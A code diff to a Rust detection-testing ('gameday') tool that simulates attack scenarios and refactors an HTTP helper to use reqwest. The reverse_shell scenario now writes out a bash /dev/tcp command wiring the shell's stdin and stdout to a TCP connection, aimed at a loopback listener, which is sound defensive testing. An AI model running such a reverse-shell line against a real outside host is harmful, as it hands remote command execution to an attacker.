@@ -5,7 +5,7 @@
 //! and lives in one work directory that is removed at the end. docs/gameday.md lists exactly what each
 //! scenario does.
 use std::collections::BTreeSet;
-use std::io::{Read, Write};
+use std::io::Write;
 use std::net::{IpAddr, TcpListener, TcpStream, ToSocketAddrs};
 use std::path::{Path, PathBuf};
 use std::process::{Command, ExitCode, Stdio};
@@ -75,7 +75,7 @@ const SCENARIOS: &[Scenario] = &[
     },
     Scenario {
         name: "reverse_shell",
-        what: "bash opens a TCP connection to a loopback listener via /dev/tcp",
+        what: "bash wires its stdin and stdout to a TCP connection to a loopback listener (/dev/tcp)",
     },
     Scenario {
         name: "package_manager",
@@ -149,18 +149,17 @@ fn loopback_target(target: &str) -> anyhow::Result<String> {
 }
 
 fn http_get(hostport: &str, path: &str) -> anyhow::Result<String> {
-    let mut s = TcpStream::connect(hostport)?;
-    s.set_read_timeout(Some(Duration::from_secs(10)))?;
-    write!(s, "GET {path} HTTP/1.0\r\nHost: {hostport}\r\n\r\n")?;
-    let mut resp = String::new();
-    s.read_to_string(&mut resp)?;
-    let (head, body) = resp.split_once("\r\n\r\n").unwrap_or((&resp, ""));
+    let resp = reqwest::blocking::Client::builder()
+        .timeout(Duration::from_secs(10))
+        .build()?
+        .get(format!("http://{hostport}{path}"))
+        .send()?;
     anyhow::ensure!(
-        head.split_whitespace().nth(1) == Some("200"),
-        "GET {path}: {}",
-        head.lines().next().unwrap_or("")
+        resp.status().is_success(),
+        "GET {path}: HTTP {}",
+        resp.status()
     );
-    Ok(body.to_string())
+    Ok(resp.text()?)
 }
 
 struct Work {
@@ -235,7 +234,9 @@ fn run_scenario(name: &str, w: &Work) -> anyhow::Result<Vec<u32>> {
         "reverse_shell" => {
             let (_l, addr) = listener()?;
             let (host, port) = addr.rsplit_once(':').unwrap_or(("127.0.0.1", "0"));
-            let script = format!("exec 3<>/dev/tcp/{host}/{port}; exec 3>&-");
+            // The shell's own stdin and stdout on the connection, as `bash -i >& /dev/tcp/...` does;
+            // it waits a second for a command that never comes, then exits.
+            let script = format!("exec 0<>/dev/tcp/{host}/{port} 1>&0; read -t 1 _ || true");
             let bash = ["/bin/bash", "/usr/bin/bash"]
                 .into_iter()
                 .find(|p| Path::new(p).exists());
@@ -303,6 +304,8 @@ fn find(findings: &[Value], pids: &BTreeSet<i64>) -> Option<String> {
     (!names.is_empty()).then(|| names.join(", "))
 }
 
+// Long on purpose: one linear script (preflight, each scenario in turn, the report); splitting it would
+// scatter the order a reader needs to follow.
 pub fn run(args: GamedayArgs) -> anyhow::Result<ExitCode> {
     if args.list {
         for s in SCENARIOS {
